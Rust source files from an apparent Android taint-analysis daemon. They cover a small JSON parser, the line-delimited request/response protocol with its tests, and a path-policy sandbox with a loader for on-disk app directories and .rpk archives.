            Ok(())
        } else {
            Err(self.err(&format!("expected `{}`", b as char)))
        }
    }

    fn literal(&mut self, word: &str, value: Json) -> Result<Json, ParseError> {
        if self.bytes[self.pos..].starts_with(word.as_bytes()) {
            self.pos += word.len();
            Ok(value)
        } else {
            Err(self.err(&format!("expected `{word}`")))
        }
    }

    fn value(&mut self) -> Result<Json, ParseError> {
        match self.peek() {
            Some(b'{') => self.object(),
            Some(b'[') => self.array(),
            Some(b'"') => Ok(Json::Str(self.string()?)),
            Some(b't') => self.literal("true", Json::Bool(true)),
            Some(b'f') => self.literal("false", Json::Bool(false)),
            Some(b'n') => self.literal("null", Json::Null),
            Some(b'-' | b'0'..=b'9') => self.number(),
            _ => Err(self.err("expected a JSON value")),
        }
    }

    fn object(&mut self) -> Result<Json, ParseError> {
        self.expect(b'{')?;
        let mut fields = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b'}') {
            self.pos += 1;
            return Ok(Json::Obj(fields));
        }
        loop {
            self.skip_ws();
            let key = self.string()?;
            self.skip_ws();
            self.expect(b':')?;
            self.skip_ws();
            let value = self.value()?;
            fields.push((key, value));
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b'}') => {
                    self.pos += 1;
                    return Ok(Json::Obj(fields));
                }
                _ => return Err(self.err("expected `,` or `}`")),
            }
        }
    }

    fn array(&mut self) -> Result<Json, ParseError> {
        self.expect(b'[')?;
        let mut items = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b']') {
            self.pos += 1;
            return Ok(Json::Arr(items));
        }
        loop {
            self.skip_ws();
            items.push(self.value()?);
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b']') => {
                    self.pos += 1;
                    return Ok(Json::Arr(items));
                }
                _ => return Err(self.err("expected `,` or `]`")),
            }
        }
    }

    fn string(&mut self) -> Result<String, ParseError> {
        self.expect(b'"')?;
        let mut out = String::new();
        loop {
            match self.peek() {
                None => return Err(self.err("unterminated string")),
                Some(b'"') => {
                    self.pos += 1;
                    return Ok(out);
                }
                Some(b'\\') => {
                    self.pos += 1;
                    match self.peek() {
                        Some(b'"') => out.push('"'),
                        Some(b'\\') => out.push('\\'),
                        Some(b'/') => out.push('/'),
                        Some(b'b') => out.push('\u{8}'),
                        Some(b'f') => out.push('\u{c}'),
                        Some(b'n') => out.push('\n'),
                        Some(b'r') => out.push('\r'),
                        Some(b't') => out.push('\t'),
                        Some(b'u') => {
                            self.pos += 1;
                            let cp = self.hex4()?;
                            // Surrogate pairs: try to combine, else
                            // substitute (the protocol never emits
                            // them, but be lenient on input).
                            let c = if (0xD800..0xDC00).contains(&cp) {
                                if self.bytes[self.pos..].starts_with(b"\\u") {
                                    self.pos += 2;
                                    let lo = self.hex4()?;
                                    if (0xDC00..0xE000).contains(&lo) {
                                        let combined =
                                            0x10000 + ((cp - 0xD800) << 10) + (lo - 0xDC00);
                                        char::from_u32(combined).unwrap_or('\u{FFFD}')
                                    } else {
                                        // The second escape is not a low
                                        // surrogate (e.g. `\ud800A`):
                                        // the high surrogate is unpaired,
                                        // and the second escape decodes
                                        // on its own.
                                        out.push('\u{FFFD}');
                                        char::from_u32(lo).unwrap_or('\u{FFFD}')
                                    }
                                } else {
                                    '\u{FFFD}'
                                }
                            } else {
                                char::from_u32(cp).unwrap_or('\u{FFFD}')
                            };
                            out.push(c);
                            continue; // hex4 advanced pos already
                        }
                        _ => return Err(self.err("invalid escape")),
                    }
                    self.pos += 1;
                }
                Some(_) => {
                    // Consume one UTF-8 scalar (input is a &str, so
                    // boundaries are valid).
                    let rest = std::str::from_utf8(&self.bytes[self.pos..]).unwrap();
                    let c = rest.chars().next().unwrap();
                    out.push(c);
                    self.pos += c.len_utf8();
                }
            }
        }
    }

    fn hex4(&mut self) -> Result<u32, ParseError> {
        if self.pos + 4 > self.bytes.len() {
            return Err(self.err("truncated \\u escape"));
        }
        let hex = std::str::from_utf8(&self.bytes[self.pos..self.pos + 4])
            .map_err(|_| self.err("invalid \\u escape"))?;
        let cp = u32::from_str_radix(hex, 16).map_err(|_| self.err("invalid \\u escape"))?;
        self.pos += 4;
        Ok(cp)
    }

    fn number(&mut self) -> Result<Json, ParseError> {
        let start = self.pos;
        if self.peek() == Some(b'-') {
            self.pos += 1;
        }
        while matches!(self.peek(), Some(b'0'..=b'9')) {
            self.pos += 1;
        }
        if self.peek() == Some(b'.') {
            self.pos += 1;
            while matches!(self.peek(), Some(b'0'..=b'9')) {
                self.pos += 1;
            }
        }
        if matches!(self.peek(), Some(b'e' | b'E')) {
            self.pos += 1;
            if matches!(self.peek(), Some(b'+' | b'-')) {
                self.pos += 1;
            }
            while matches!(self.peek(), Some(b'0'..=b'9')) {
                self.pos += 1;
            }
        }
        let text = std::str::from_utf8(&self.bytes[start..self.pos]).unwrap();
        text.parse::<f64>().map(Json::Num).map_err(|_| self.err("invalid number"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn round_trips_protocol_shapes() {
        let line = r#"{"type":"analyze","app":"droidbench/Aliasing/Merge1","deadline_ms":250}"#;
        let v = parse(line).unwrap();
        assert_eq!(v.str_field("type"), Some("analyze"));
        assert_eq!(v.u64_field("deadline_ms"), Some(250));
        assert_eq!(parse(&v.to_line()).unwrap(), v);
    }

    #[test]
    fn escapes_round_trip() {
        let v = Json::Str("a\"b\\c\nd\te\u{1}".to_string());
        assert_eq!(parse(&v.to_line()).unwrap(), v);
    }

    #[test]
    fn nested_arrays_and_numbers() {
        let v = parse(r#"{"jobs":[{"id":1},{"id":2}],"pi":3.5,"neg":-7}"#).unwrap();
        assert_eq!(v.get("jobs").unwrap().as_arr().unwrap().len(), 2);
        assert_eq!(v.get("pi"), Some(&Json::Num(3.5)));
        assert_eq!(v.get("neg"), Some(&Json::Num(-7.0)));
    }

    #[test]
    fn integers_print_without_fraction() {
        assert_eq!(Json::Num(42.0).to_line(), "42");
        assert_eq!(Json::Num(0.0).to_line(), "0");
    }

    #[test]
    fn rejects_garbage() {
        assert!(parse("{").is_err());
        assert!(parse("[1,]").is_err());
        assert!(parse("{} extra").is_err());
        assert!(parse("nul").is_err());
    }

    #[test]
    fn unicode_escapes() {
        assert_eq!(parse(r#""é""#).unwrap(), Json::Str("é".to_string()));
        assert_eq!(parse(r#""😀""#).unwrap(), Json::Str("😀".to_string()));
    }
}
