#![warn(missing_docs)]

//! The FlowDroid analysis service: a long-running daemon that accepts
//! analysis jobs over a line-delimited JSON protocol (TCP or Unix
//! socket), runs them on a bounded worker pool, and shares one
//! persistent summary cache across jobs so repeated analyses start
//! warm.
//!
//! Layers:
//!
//! * [`json`] — a minimal std-only JSON value (no external deps);
//! * [`proto`] — the request/response wire types: [`AnalyzeRequest`]
//!   with [`Priority`] lanes, cache namespaces and opt-in streaming;
//! * [`daemon`] — the server: accept loop, three-lane priority queue
//!   with admission control (bounded depth, `rejected` backpressure
//!   replies), worker pool, job registry with per-job
//!   [`flowdroid_core::AbortHandle`]s (deadline, cancel, budget), and
//!   a per-connection frame relay for streamed jobs;
//! * [`external`] — serving external apps: the `--allow-apps`
//!   path-policy sandbox ([`AppPolicy`]) and the on-disk app-dir /
//!   `.rpk` loader, with typed `denied` replies for paths outside the
//!   sandbox;
//! * [`client`] — a blocking client used by the `flowdroid client`
//!   subcommand, the benchmark driver and the smoke tests.
//!
//! See DESIGN.md §10/§14 and docs/PROTOCOL.md for the architecture and
//! the full wire contract.

pub mod client;
pub mod daemon;
pub mod external;
pub mod json;
pub mod net;
pub mod proto;

pub use client::{AnalyzeOptions, AnalyzeOutcome, Client, Submitted};
pub use daemon::{Daemon, DaemonOptions, DEFAULT_QUEUE_CAP};
pub use external::{load_external_job, AppPolicy, PolicyError};
pub use json::Json;
pub use net::Listen;
pub use proto::{AnalyzeRequest, JobResult, Priority, Request};
