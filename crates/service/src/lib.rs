#![warn(missing_docs)]

//! The FlowDroid analysis service: a long-running daemon that accepts
//! analysis jobs over a line-delimited JSON protocol (TCP or Unix
//! socket), runs them on a bounded worker pool, and shares one
//! persistent summary cache across jobs so repeated analyses start
//! warm.
//!
//! Layers:
//!
//! * [`json`] — a minimal std-only JSON value (no external deps);
//! * [`proto`] — the request/response wire types;
//! * [`daemon`] — the server: accept loop, worker pool, job registry
//!   with per-job [`flowdroid_core::AbortHandle`]s (deadline, cancel,
//!   budget);
//! * [`client`] — a blocking client used by the `flowdroid client`
//!   subcommand, the benchmark driver and the smoke tests.
//!
//! See DESIGN.md §10 for the architecture discussion.

pub mod client;
pub mod daemon;
pub mod json;
pub mod net;
pub mod proto;

pub use client::Client;
pub use daemon::{Daemon, DaemonOptions};
pub use json::Json;
pub use net::Listen;
pub use proto::{JobResult, Request};
