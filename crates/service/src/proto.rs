//! The line-delimited JSON wire protocol.
//!
//! Every request and response is one JSON object on one line. Requests
//! carry a `"type"` discriminator:
//!
//! | request | fields |
//! |---|---|
//! | `analyze`  | `app` (corpus name, `stress/<K>`, or an on-disk app path under the daemon's `--allow-apps` roots), optional `deadline_ms`, `max_propagations`, `taint_threads`, `priority` (`high`/`normal`/`batch`), `namespace`, `stream` |
//! | `cancel`   | `job` |
//! | `stats`    | — |
//! | `shutdown` | — |
//!
//! Responses: `analyze` answers `{"type":"queued","job":N}` immediately
//! and a `{"type":"result",...}` line when the job finishes (the
//! connection stays blocked in between — issue `cancel`/`stats` from a
//! second connection). When the admission queue is full the daemon
//! answers `{"type":"rejected",...}` instead of `queued` and keeps the
//! connection open. A path-shaped `app` refused by the external-app
//! policy answers `{"type":"denied",...}` (distinct from `error`: the
//! path is outside the sandbox, not malformed). With `"stream":true`,
//! `{"type":"progress",...}` and
//! `{"type":"leak",...}` frames flow between `queued` and the final
//! `result` line (which is byte-identical to the non-streamed one).
//! `cancel` and `shutdown` answer `{"type":"ok"}`, `stats` answers
//! `{"type":"stats",...}`, and malformed or unknown requests answer
//! `{"type":"error","message":...}` without closing the connection.
//!
//! The full wire contract lives in `docs/PROTOCOL.md`.

use crate::json::{self, obj, Json};

/// Admission priority of an `analyze` job. The daemon dequeues `High`
/// before `Normal` before `Batch`, with aging so a saturating stream of
/// higher-priority work cannot starve `Batch` forever.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Priority {
    /// Interactive work: dequeued first.
    High = 0,
    /// The default lane.
    #[default]
    Normal = 1,
    /// Bulk/background work: dequeued last, but aged in periodically.
    Batch = 2,
}

impl Priority {
    /// The wire spelling.
    pub fn as_str(self) -> &'static str {
        match self {
            Priority::High => "high",
            Priority::Normal => "normal",
            Priority::Batch => "batch",
        }
    }

    /// Parses the wire spelling.
    pub fn parse(s: &str) -> Option<Priority> {
        match s {
            "high" => Some(Priority::High),
            "normal" => Some(Priority::Normal),
            "batch" => Some(Priority::Batch),
            _ => None,
        }
    }

    /// Queue-lane index (0 = high, 1 = normal, 2 = batch).
    pub fn lane(self) -> usize {
        self as usize
    }
}

/// Maximum accepted `namespace` length.
pub const MAX_NAMESPACE_LEN: usize = 64;

/// Validates a summary-store namespace: `[A-Za-z0-9._-]`, at most
/// [`MAX_NAMESPACE_LEN`] bytes. The empty string is the shared default
/// namespace.
pub fn validate_namespace(ns: &str) -> Result<(), String> {
    if ns.len() > MAX_NAMESPACE_LEN {
        return Err(format!("namespace longer than {MAX_NAMESPACE_LEN} bytes"));
    }
    match ns.chars().find(|c| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))) {
        Some(c) => Err(format!("namespace contains `{c}` (allowed: [A-Za-z0-9._-])")),
        None => Ok(()),
    }
}

/// The body of an `analyze` request.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct AnalyzeRequest {
    /// Corpus name (`droidbench/...`, `securibench/...`,
    /// `insecurebank`), `stress/<K>`, or a path to an on-disk app dir /
    /// `.rpk` archive under the daemon's `--allow-apps` roots.
    pub app: String,
    /// Wall-clock deadline, measured from submission; the job returns
    /// an `aborted` partial result once it passes.
    pub deadline_ms: Option<u64>,
    /// Path-edge propagation budget (0/absent = unlimited).
    pub max_propagations: Option<u64>,
    /// Solver threads for this job (absent = sequential).
    pub taint_threads: Option<u64>,
    /// Admission priority (absent = `normal`).
    pub priority: Priority,
    /// Summary-store namespace; jobs in different namespaces never
    /// observe each other's summaries. Empty = the shared default.
    pub namespace: String,
    /// Stream `progress`/`leak` frames while the job runs.
    pub stream: bool,
}

impl AnalyzeRequest {
    /// A request for `app` with every option at its default.
    pub fn new(app: impl Into<String>) -> AnalyzeRequest {
        AnalyzeRequest { app: app.into(), ..AnalyzeRequest::default() }
    }
}

/// A parsed client request.
#[derive(Clone, Debug, PartialEq)]
pub enum Request {
    /// Queue an analysis job.
    Analyze(AnalyzeRequest),
    /// Cancel a queued or running job.
    Cancel {
        /// The job id from the `queued` response.
        job: u64,
    },
    /// Report daemon statistics.
    Stats,
    /// Drain the queue, flush the summary cache, stop the daemon.
    Shutdown,
}

impl Request {
    /// Parses one request line.
    pub fn parse(line: &str) -> Result<Request, String> {
        let v = json::parse(line).map_err(|e| e.to_string())?;
        let ty = v.str_field("type").ok_or("missing `type` field")?;
        match ty {
            "analyze" => {
                let app = v.str_field("app").ok_or("analyze: missing `app` field")?;
                let priority = match v.str_field("priority") {
                    None => Priority::Normal,
                    Some(p) => Priority::parse(p).ok_or_else(|| {
                        format!("analyze: unknown priority `{p}` (high, normal, batch)")
                    })?,
                };
                let namespace = v.str_field("namespace").unwrap_or("").to_string();
                validate_namespace(&namespace).map_err(|e| format!("analyze: {e}"))?;
                Ok(Request::Analyze(AnalyzeRequest {
                    app: app.to_string(),
                    deadline_ms: v.u64_field("deadline_ms"),
                    max_propagations: v.u64_field("max_propagations"),
                    taint_threads: v.u64_field("taint_threads"),
                    priority,
                    namespace,
                    stream: v.bool_field("stream").unwrap_or(false),
                }))
            }
            "cancel" => {
                let job = v.u64_field("job").ok_or("cancel: missing `job` field")?;
                Ok(Request::Cancel { job })
            }
            "stats" => Ok(Request::Stats),
            "shutdown" => Ok(Request::Shutdown),
            other => Err(format!("unknown request type `{other}`")),
        }
    }

    /// Renders the request as one line (what [`crate::Client`] sends).
    /// Optional fields at their default are omitted.
    pub fn to_line(&self) -> String {
        match self {
            Request::Analyze(a) => {
                let mut fields =
                    vec![("type", Json::from("analyze")), ("app", Json::from(a.app.as_str()))];
                if let Some(d) = a.deadline_ms {
                    fields.push(("deadline_ms", Json::from(d)));
                }
                if let Some(m) = a.max_propagations {
                    fields.push(("max_propagations", Json::from(m)));
                }
                if let Some(t) = a.taint_threads {
                    fields.push(("taint_threads", Json::from(t)));
                }
                if a.priority != Priority::Normal {
                    fields.push(("priority", Json::from(a.priority.as_str())));
                }
                if !a.namespace.is_empty() {
                    fields.push(("namespace", Json::from(a.namespace.as_str())));
                }
                if a.stream {
                    fields.push(("stream", Json::from(true)));
                }
                obj(fields).to_line()
            }
            Request::Cancel { job } => {
                obj([("type", Json::from("cancel")), ("job", Json::from(*job))]).to_line()
            }
            Request::Stats => obj([("type", Json::from("stats"))]).to_line(),
            Request::Shutdown => obj([("type", Json::from("shutdown"))]).to_line(),
        }
    }
}

/// The outcome of one daemon job (the `result` response line).
#[derive(Clone, Debug, Default, PartialEq)]
pub struct JobResult {
    /// Job id.
    pub job: u64,
    /// The app analyzed.
    pub app: String,
    /// Leaks reported (a lower bound when `aborted`).
    pub leaks: u64,
    /// Whether the job aborted before its fixpoint.
    pub aborted: bool,
    /// `cancelled` / `deadline` / `budget`, when `aborted`.
    pub abort_reason: Option<String>,
    /// Analysis wall-clock time (runs the job spent executing).
    pub wall_ms: u64,
    /// Time the job waited in the queue before a worker claimed it.
    pub queue_ms: u64,
    /// Setup phase of the run in microseconds: parse/decode, entry-point
    /// model, dummy main and call-graph construction — everything before
    /// the data-flow solver. Warm daemon jobs against the shared
    /// platform snapshot keep this below `dataflow_us`.
    pub setup_us: u64,
    /// Data-flow (solver) phase in microseconds.
    pub dataflow_us: u64,
    /// Method bodies the demand-driven frontend decoded for this job
    /// (0 on eager runs).
    pub bodies_materialized: u64,
    /// Method bodies indexed but never decoded because the callgraph
    /// closure never reached them (0 on eager runs).
    pub bodies_skipped: u64,
    /// Forward path-edge propagations.
    pub forward_propagations: u64,
    /// Backward (alias) path-edge propagations.
    pub backward_propagations: u64,
    /// Summary-cache hits (0 without a cache).
    pub summary_hits: u64,
    /// Summary-cache misses.
    pub summary_misses: u64,
    /// Summary-cache stale entries.
    pub summary_stale: u64,
    /// Summaries staged for the next flush (always 0 when `aborted`).
    pub summary_recorded: u64,
    /// Time spent obtaining the job's private program from the shared
    /// platform snapshot, in microseconds. Copy-on-write overlays keep
    /// this near zero; a deep clone pays the full arena copy.
    pub platform_clone_us: u64,
    /// Callgraph-cache hits for this job (1 when the daemon replayed a
    /// cached entry-point model + callgraph instead of rebuilding them).
    pub callgraph_cache_hits: u64,
    /// Callgraph-cache misses for this job (1 on the cold run that
    /// populates the cache).
    pub callgraph_cache_misses: u64,
    /// The deterministic per-app leak report.
    pub report: String,
}

impl JobResult {
    /// The `result` response line.
    pub fn to_json(&self) -> Json {
        let mut fields = vec![
            ("type", Json::from("result")),
            ("job", Json::from(self.job)),
            ("app", Json::from(self.app.as_str())),
            ("leaks", Json::from(self.leaks)),
            ("aborted", Json::from(self.aborted)),
        ];
        if let Some(r) = &self.abort_reason {
            fields.push(("abort_reason", Json::from(r.as_str())));
        }
        fields.extend([
            ("wall_ms", Json::from(self.wall_ms)),
            ("queue_ms", Json::from(self.queue_ms)),
            ("setup_us", Json::from(self.setup_us)),
            ("dataflow_us", Json::from(self.dataflow_us)),
            ("bodies_materialized", Json::from(self.bodies_materialized)),
            ("bodies_skipped", Json::from(self.bodies_skipped)),
            ("forward_propagations", Json::from(self.forward_propagations)),
            ("backward_propagations", Json::from(self.backward_propagations)),
            ("summary_hits", Json::from(self.summary_hits)),
            ("summary_misses", Json::from(self.summary_misses)),
            ("summary_stale", Json::from(self.summary_stale)),
            ("summary_recorded", Json::from(self.summary_recorded)),
            ("platform_clone_us", Json::from(self.platform_clone_us)),
            ("callgraph_cache_hits", Json::from(self.callgraph_cache_hits)),
            ("callgraph_cache_misses", Json::from(self.callgraph_cache_misses)),
            ("report", Json::from(self.report.as_str())),
        ]);
        obj(fields)
    }

    /// Reads a `result` response line back (client side).
    pub fn from_json(v: &Json) -> Option<JobResult> {
        if v.str_field("type") != Some("result") {
            return None;
        }
        Some(JobResult {
            job: v.u64_field("job")?,
            app: v.str_field("app")?.to_string(),
            leaks: v.u64_field("leaks")?,
            aborted: v.bool_field("aborted")?,
            abort_reason: v.str_field("abort_reason").map(str::to_string),
            wall_ms: v.u64_field("wall_ms")?,
            queue_ms: v.u64_field("queue_ms")?,
            setup_us: v.u64_field("setup_us").unwrap_or(0),
            dataflow_us: v.u64_field("dataflow_us").unwrap_or(0),
            bodies_materialized: v.u64_field("bodies_materialized").unwrap_or(0),
            bodies_skipped: v.u64_field("bodies_skipped").unwrap_or(0),
            forward_propagations: v.u64_field("forward_propagations")?,
            backward_propagations: v.u64_field("backward_propagations")?,
            summary_hits: v.u64_field("summary_hits").unwrap_or(0),
            summary_misses: v.u64_field("summary_misses").unwrap_or(0),
            summary_stale: v.u64_field("summary_stale").unwrap_or(0),
            summary_recorded: v.u64_field("summary_recorded").unwrap_or(0),
            platform_clone_us: v.u64_field("platform_clone_us").unwrap_or(0),
            callgraph_cache_hits: v.u64_field("callgraph_cache_hits").unwrap_or(0),
            callgraph_cache_misses: v.u64_field("callgraph_cache_misses").unwrap_or(0),
            report: v.str_field("report").unwrap_or("").to_string(),
        })
    }
}

/// The `error` response line.
pub fn error_line(message: &str) -> String {
    obj([("type", Json::from("error")), ("message", Json::from(message))]).to_line()
}

/// The `denied` response line: the external-app path policy refused the
/// requested path. Distinct from `error` so clients can surface a
/// sandbox refusal (exit code 6 in the CLI) instead of a protocol
/// failure.
pub fn denied_line(message: &str) -> String {
    obj([("type", Json::from("denied")), ("message", Json::from(message))]).to_line()
}

/// The `rejected` response line: the admission queue is full. Distinct
/// from `error` so clients can back off and retry instead of treating
/// it as a protocol failure.
pub fn rejected_line(queue_depth: u64, queue_cap: u64) -> String {
    obj([
        ("type", Json::from("rejected")),
        ("message", Json::from("admission queue full; retry later")),
        ("queue_depth", Json::from(queue_depth)),
        ("queue_cap", Json::from(queue_cap)),
    ])
    .to_line()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn requests_round_trip() {
        let reqs = [
            Request::Analyze(AnalyzeRequest {
                app: "insecurebank".to_string(),
                deadline_ms: Some(500),
                taint_threads: Some(4),
                ..AnalyzeRequest::default()
            }),
            Request::Analyze(AnalyzeRequest {
                app: "stress/2000".to_string(),
                priority: Priority::Batch,
                namespace: "tenant-a".to_string(),
                stream: true,
                ..AnalyzeRequest::default()
            }),
            Request::Cancel { job: 3 },
            Request::Stats,
            Request::Shutdown,
        ];
        for r in reqs {
            assert_eq!(Request::parse(&r.to_line()).unwrap(), r);
        }
    }

    #[test]
    fn parse_rejects_malformed() {
        assert!(Request::parse("not json").is_err());
        assert!(Request::parse(r#"{"type":"launch"}"#).is_err());
        assert!(Request::parse(r#"{"type":"analyze"}"#).is_err());
        assert!(Request::parse(r#"{"type":"cancel"}"#).is_err());
        assert!(Request::parse(r#"{"type":"analyze","app":"a","priority":"urgent"}"#).is_err());
        assert!(Request::parse(r#"{"type":"analyze","app":"a","namespace":"../x"}"#).is_err());
        let long = "n".repeat(MAX_NAMESPACE_LEN + 1);
        let line = format!(r#"{{"type":"analyze","app":"a","namespace":"{long}"}}"#);
        assert!(Request::parse(&line).is_err());
    }

    #[test]
    fn namespace_validation() {
        assert!(validate_namespace("").is_ok());
        assert!(validate_namespace("tenant-a.v2_x").is_ok());
        assert!(validate_namespace("a/b").is_err());
        assert!(validate_namespace("a b").is_err());
    }

    #[test]
    fn job_result_round_trips() {
        let r = JobResult {
            job: 7,
            app: "stress/500".to_string(),
            leaks: 1,
            aborted: true,
            abort_reason: Some("deadline".to_string()),
            wall_ms: 120,
            queue_ms: 3,
            setup_us: 2500,
            dataflow_us: 117_000,
            bodies_materialized: 42,
            bodies_skipped: 7,
            forward_propagations: 123456,
            backward_propagations: 7,
            summary_hits: 2,
            summary_misses: 9,
            summary_stale: 0,
            summary_recorded: 0,
            platform_clone_us: 12,
            callgraph_cache_hits: 1,
            callgraph_cache_misses: 0,
            report: "== stress/500: 1 leak(s)\n".to_string(),
        };
        let parsed = JobResult::from_json(&crate::json::parse(&r.to_json().to_line()).unwrap());
        assert_eq!(parsed, Some(r));
    }
}
