//! Serving external apps from disk, behind an allow-list path policy.
//!
//! The daemon's corpus is compiled in; everything else it may analyze
//! must come from the filesystem the operator explicitly exposed with
//! `serve --allow-apps DIR`. Two layers:
//!
//! * [`AppPolicy`] — the sandbox. Allow-roots are canonicalized at
//!   daemon boot; every requested path is canonicalized *before* the
//!   prefix check, so `..` segments and symlinks pointing outside a
//!   root resolve to their real target and fail the check. An empty
//!   policy (no `--allow-apps`) denies every path. Policy refusals get
//!   a typed `denied` wire reply, distinct from protocol errors, so
//!   clients can tell "outside the sandbox" from "malformed app".
//! * [`load_external_job`] — the loader. Accepts an on-disk app
//!   directory (`AndroidManifest.xml`, `res/layout/*.xml`,
//!   `classes.jasm`) or a packed `.rpk` archive, and builds a
//!   [`CorpusJob`] whose name folds in a content hash: the bench
//!   layer's prepared-job registry caches by name forever, so two
//!   different apps at the same path — or the same path edited between
//!   submissions — must never collide on a name.

use flowdroid_bench::{external_job, CorpusJob};
use flowdroid_frontend::rpk::Archive;
use flowdroid_frontend::App;
use flowdroid_ir::Program;
use std::path::{Path, PathBuf};

/// The `serve --allow-apps` sandbox: the canonicalized roots external
/// app paths must resolve under.
#[derive(Clone, Debug, Default)]
pub struct AppPolicy {
    roots: Vec<PathBuf>,
}

/// Why a path was refused by [`AppPolicy::resolve`].
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum PolicyError {
    /// The daemon runs without `--allow-apps`: all paths are denied.
    NoRoots,
    /// The path does not exist (or cannot be canonicalized).
    NotFound(String),
    /// The canonicalized path lies outside every allow-root.
    Outside(String),
}

impl std::fmt::Display for PolicyError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            PolicyError::NoRoots => {
                write!(f, "daemon serves no external apps (start with --allow-apps DIR)")
            }
            PolicyError::NotFound(p) => write!(f, "app path `{p}` not found"),
            PolicyError::Outside(p) => {
                write!(f, "app path `{p}` resolves outside the allowed roots")
            }
        }
    }
}

impl AppPolicy {
    /// Builds the policy, canonicalizing every root now — a root that
    /// does not exist is a boot-time configuration error, not something
    /// to discover per request.
    ///
    /// # Errors
    ///
    /// Returns the canonicalization error of the first bad root.
    pub fn new(roots: &[PathBuf]) -> std::io::Result<AppPolicy> {
        let roots = roots
            .iter()
            .map(|r| {
                r.canonicalize().map_err(|e| {
                    std::io::Error::new(
                        e.kind(),
                        format!("--allow-apps {}: {e}", r.display()),
                    )
                })
            })
            .collect::<std::io::Result<Vec<_>>>()?;
        Ok(AppPolicy { roots })
    }

    /// Whether any root is configured.
    pub fn is_empty(&self) -> bool {
        self.roots.is_empty()
    }

    /// Canonicalizes `path` and checks it sits under an allow-root.
    /// Canonicalization resolves symlinks and `..` segments first, so
    /// an inside-the-root symlink pointing outside is refused.
    ///
    /// # Errors
    ///
    /// [`PolicyError`] describing the refusal.
    pub fn resolve(&self, path: &str) -> Result<PathBuf, PolicyError> {
        if self.roots.is_empty() {
            return Err(PolicyError::NoRoots);
        }
        let real = Path::new(path)
            .canonicalize()
            .map_err(|_| PolicyError::NotFound(path.to_string()))?;
        if self.roots.iter().any(|r| real.starts_with(r)) {
            Ok(real)
        } else {
            Err(PolicyError::Outside(path.to_string()))
        }
    }
}

/// Whether an `analyze` request's `app` field addresses the filesystem
/// (policy territory) rather than the compiled-in corpus. Corpus names
/// (`droidbench/Button1`, `stress/2000`, …) never start with `/` or a
/// dot segment and never carry the `.rpk` suffix.
pub fn is_path_request(app: &str) -> bool {
    app.starts_with('/')
        || app.starts_with("./")
        || app.starts_with("../")
        || app.ends_with(".rpk")
}

/// FNV-1a over the app's content, folded into the job name.
fn content_hash(manifest: &str, layouts: &[(String, String)], code: &str) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    let mut eat = |bytes: &[u8]| {
        for &b in bytes {
            h ^= u64::from(b);
            h = h.wrapping_mul(0x0000_0100_0000_01b3);
        }
    };
    eat(manifest.as_bytes());
    for (name, xml) in layouts {
        eat(name.as_bytes());
        eat(xml.as_bytes());
    }
    eat(code.as_bytes());
    h
}

fn read_str(path: &Path) -> Result<String, String> {
    std::fs::read_to_string(path)
        .map_err(|e| format!("cannot read {}: {e}", path.display()))
}

/// Reads an app directory: `AndroidManifest.xml` + `classes.jasm` +
/// optional `res/layout/*.xml`.
fn load_dir(dir: &Path) -> Result<(String, Vec<(String, String)>, String), String> {
    let manifest = read_str(&dir.join("AndroidManifest.xml"))?;
    let code = read_str(&dir.join("classes.jasm"))?;
    let mut layouts = Vec::new();
    let ldir = dir.join("res/layout");
    if ldir.is_dir() {
        let mut entries: Vec<PathBuf> = std::fs::read_dir(&ldir)
            .map_err(|e| format!("cannot read {}: {e}", ldir.display()))?
            .filter_map(|e| e.ok().map(|e| e.path()))
            .filter(|p| p.extension().is_some_and(|x| x == "xml"))
            .collect();
        entries.sort();
        for p in entries {
            let name = p
                .file_stem()
                .and_then(|s| s.to_str())
                .ok_or_else(|| format!("bad layout file name {}", p.display()))?
                .to_string();
            layouts.push((name, read_str(&p)?));
        }
    }
    Ok((manifest, layouts, code))
}

/// Unpacks a `.rpk` archive: same required entries as a directory, with
/// layouts under `res/layout/`. Unknown entries (e.g. a `truth.json`
/// ground-truth manifest) are ignored, matching the frontend loader.
fn load_rpk(path: &Path) -> Result<(String, Vec<(String, String)>, String), String> {
    let bytes =
        std::fs::read(path).map_err(|e| format!("cannot read {}: {e}", path.display()))?;
    let ar = Archive::from_bytes(&bytes).map_err(|e| format!("{}: {e}", path.display()))?;
    let entry = |name: &str| {
        ar.get_str(name)
            .map(str::to_string)
            .ok_or_else(|| format!("{}: missing archive entry `{name}`", path.display()))
    };
    let manifest = entry("AndroidManifest.xml")?;
    let code = entry("classes.jasm")?;
    let mut names: Vec<String> =
        ar.paths_under("res/layout/").map(str::to_string).collect();
    names.sort();
    let mut layouts = Vec::new();
    for full in names {
        let stem = full
            .strip_prefix("res/layout/")
            .and_then(|s| s.strip_suffix(".xml"))
            .ok_or_else(|| format!("{}: bad layout entry `{full}`", path.display()))?;
        layouts.push((stem.to_string(), entry(&full)?));
    }
    Ok((manifest, layouts, code))
}

/// Loads an external app (directory or `.rpk`) from an
/// *already-policy-resolved* path into a corpus job, validating that it
/// parses against `scratch` (a throwaway platform overlay) first — a
/// malformed app must fail the submitting connection, never the worker
/// that later re-parses it. The job name is
/// `external/<content-hash>/<stem>` — content-unique, so the prepared
/// registry can never serve a stale parse for an edited app.
///
/// # Errors
///
/// A human-readable message when the path is neither a readable app
/// directory nor a well-formed, parseable archive.
pub fn load_external_job(real: &Path, scratch: &mut Program) -> Result<CorpusJob, String> {
    let (manifest, layouts, code) =
        if real.is_dir() { load_dir(real) } else { load_rpk(real) }?;
    let refs: Vec<(&str, &str)> =
        layouts.iter().map(|(n, x)| (n.as_str(), x.as_str())).collect();
    App::from_parts(scratch, &manifest, &refs, &code)
        .map_err(|e| format!("{}: {e}", real.display()))?;
    let stem = real
        .file_stem()
        .and_then(|s| s.to_str())
        .unwrap_or("app")
        .chars()
        .map(|c| if c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-') { c } else { '_' })
        .collect::<String>();
